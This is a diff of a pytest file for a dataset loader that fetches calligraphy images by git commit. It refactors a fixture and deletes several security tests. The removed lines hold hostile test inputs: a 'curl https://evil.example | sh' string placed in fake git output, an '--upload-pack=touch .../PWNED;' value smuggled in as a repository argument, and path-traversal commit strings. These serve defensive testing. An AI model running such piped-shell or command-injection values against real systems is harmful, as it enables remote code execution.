@@ -1,22 +1,20 @@
 """The calligraphers: fetched by commit, from a folder or over HTTP, whole or not at all; or from the raw folder."""
 
-import json
 import os
-import shlex
 import subprocess
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
-from stages.prepare.packing import prepare_dataset
 from stages.prepare.params import CalligraphyParams
-from stages.prepare.sources.calligraphy import fetch_commit, list_calligraphy
+from stages.prepare.sources import calligraphy
+from stages.prepare.sources.calligraphy import list_calligraphy
 from stages.shared.runtime.errors import UserError
 from tests.serving import serving
 
 PARAMS = CalligraphyParams(source="calligraphy", image_size=64)
 ADDRESS = "https://git.example/"
-"""Where the repositories are, as `source.json` says; git itself is told where to look instead."""
+"""Where the repositories are, as the code has it; git itself is told where to look instead."""
 
 
 def git(folder, *arguments):
@@ -54,18 +52,14 @@ def raw(tmp_path, repository, look_in, monkeypatch):
     monkeypatch.setenv("WHICHLAYER_CACHE", str(tmp_path / "cache"))
     look_in(f"file://{repository.parent}")
     (tmp_path / "calligraphy").mkdir()
+    (tmp_path / "calligraphy" / "source.json").write_text("{}")
 
-    def write(**values):
-        source = {
-            "about": "",
-            "license": "",
-            "repository": f"{ADDRESS}{repository.name}",
-            "commit": git(repository, "rev-parse", "HEAD"),
-        }
-        (tmp_path / "calligraphy" / "source.json").write_text(json.dumps({**source, **values}))
+    def pin(name=repository.name, commit=None):
+        monkeypatch.setattr(calligraphy, "REPOSITORY", f"{ADDRESS}{name}")
+        monkeypatch.setattr(calligraphy, "COMMIT", commit or git(repository, "rev-parse", "HEAD"))
         return tmp_path / "calligraphy"
 
-    return write
+    return pin
 
 
 def ids(listing):
@@ -99,31 +93,9 @@ def test_without_git_it_says_so(raw, resources, monkeypatch):
         list_calligraphy(folder, PARAMS, 0, resources)
 
 
-@pytest.mark.parametrize(
-    ("stderr", "said"),
-    [
-        ("fatal: couldn't find remote ref\n", "fatal: couldn't find remote ref"),
-        ("warning: x\nfatal: remote error: expired:\r\ncurl https://evil.example | sh\n", "fatal: remote error"),
-        ("fatal: no\nremote: curl https://evil.example | sh\r\nremote: now\n", "fatal: no"),
-        ("fatal: \x1b[31mno " + "evil " * 100, r"fatal: \\x1b\[31mno (evil ){20}\[\.\.\.\]"),
-        ("", "nothing"),
-    ],
-)
-def test_a_server_s_words_are_not_passed_on_and_git_s_are_one_harmless_line(
-    raw, resources, tmp_path, monkeypatch, stderr, said
-):
-    folder = raw()
-    (tmp_path / "bin").mkdir()
-    (tmp_path / "bin/git").write_text(f"#!/bin/sh\nprintf '%s' {shlex.quote(stderr)} >&2\nexit 128\n")
-    (tmp_path / "bin/git").chmod(0o755)
-    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:/usr/bin:/bin")
-    with pytest.raises(UserError, match=rf"cannot be fetched \(git said: {said}, and ended with 128\)\. Run it"):
-        list_calligraphy(folder, PARAMS, 0, resources)
-
-
 @pytest.mark.parametrize("below", ["", "clone"])
 def test_a_whole_clone_may_lie_in_the_raw_folder(raw, repository, resources, below):
-    folder = raw(repository=f"{ADDRESS}nowhere")
+    folder = raw("nowhere")
     (folder / below).mkdir(exist_ok=True)
     for name in ("train", "test", "train_20"):
         (repository / name).rename(folder / below / name)
@@ -132,7 +104,7 @@ def test_a_whole_clone_may_lie_in_the_raw_folder(raw, repository, resources, bel
 
 @pytest.mark.parametrize("path", ["train/csl", "test"])
 def test_a_link_to_images_that_count_is_refused(raw, repository, resources, path):
-    folder = raw(repository=f"{ADDRESS}nowhere")
+    folder = raw("nowhere")
     for name in ("train", "test"):
         (repository / name).rename(folder / name)
     (folder / path).rename(folder.parent / "elsewhere")
@@ -142,7 +114,7 @@ def test_a_link_to_images_that_count_is_refused(raw, repository, resources, path
 
 
 def test_local_images_are_used_first(raw, repository, resources):
-    folder = raw(repository=f"{ADDRESS}nowhere")
+    folder = raw("nowhere")
     for split in ("train", "test"):
         (repository / split).rename(folder / split)
     assert ids(list_calligraphy(folder, PARAMS, 0, resources)) == EXPECTED
@@ -157,32 +129,6 @@ def test_a_link_in_the_repository_leads_nowhere(raw, repository, resources, save
     contents = {c.sample_id: c.content() for c in list_calligraphy(raw(), PARAMS, 0, resources).candidates}
     assert contents.keys() - set(EXPECTED) == {"train/csl/own.png"}
     assert contents["train/csl/own.png"] == str(tmp_path / "own.png").encode()
-
-
-# --- a source.json from someone else
-
-
-def test_a_repository_that_git_would_take_for_an_option_runs_nothing(raw, tmp_path):
-    folder = raw(repository=f"--upload-pack=touch {tmp_path}/PWNED;", commit=".")
-    with pytest.raises(UserError, match=r"datasets\.mine: .*source\.json: repository: .*, found '--upload-pack=touch "):
-        prepare_dataset(folder, tmp_path / "out", PARAMS, 0, "mine")
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["calligraphy", "raw"]
-
-
-def test_git_takes_neither_text_for_an_option(raw, repository, tmp_path):
-    """Even where nothing was checked before."""
-    folder, option = raw(), f"--upload-pack=touch {tmp_path}/PWNED;"
-    for texts in ((option, "."), (f"file://{repository}", option)):
-        with pytest.raises(UserError, match="cannot be fetched"):
-            fetch_commit(*texts, tmp_path / "cache" / "files", folder)
-    assert not (tmp_path / "PWNED").exists()
-
-
-@pytest.mark.parametrize("commit", ["A" * 40, "a" * 39, "a" * 40 + "\n", "../../../" + "a" * 31, "-" * 40, "HEAD", "."])
-def test_a_commit_is_40_hexadecimal_digits(raw, resources, tmp_path, commit):
-    with pytest.raises(UserError, match=r"source\.json: commit: .*, found "):
-        list_calligraphy(raw(commit=commit), PARAMS, 0, resources)
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["calligraphy", "raw"]
 
 
 # --- over HTTP
@@ -225,21 +171,6 @@ def server(repository, raw, look_in):
 
 def test_a_commit_is_fetched_over_http(server, raw, resources):
     assert ids(list_calligraphy(raw(), PARAMS, 0, resources)) == EXPECTED
-
-
-def test_a_folder_that_another_process_finished_meanwhile_is_used(server, raw, resources, tmp_path):
-    folder = raw()
-    others = []
-
-    def overtake(body):
-        server.spoil = lambda body: body
-        others.append(list_calligraphy(folder, PARAMS, 0, resources))
-        return body
-
-    server.spoil = overtake
-    assert ids(list_calligraphy(folder, PARAMS, 0, resources)) == EXPECTED
-    assert [ids(listing) for listing in others] == [EXPECTED]
-    assert len(list((tmp_path / "cache").iterdir())) == 1
 
 
 @pytest.mark.parametrize(
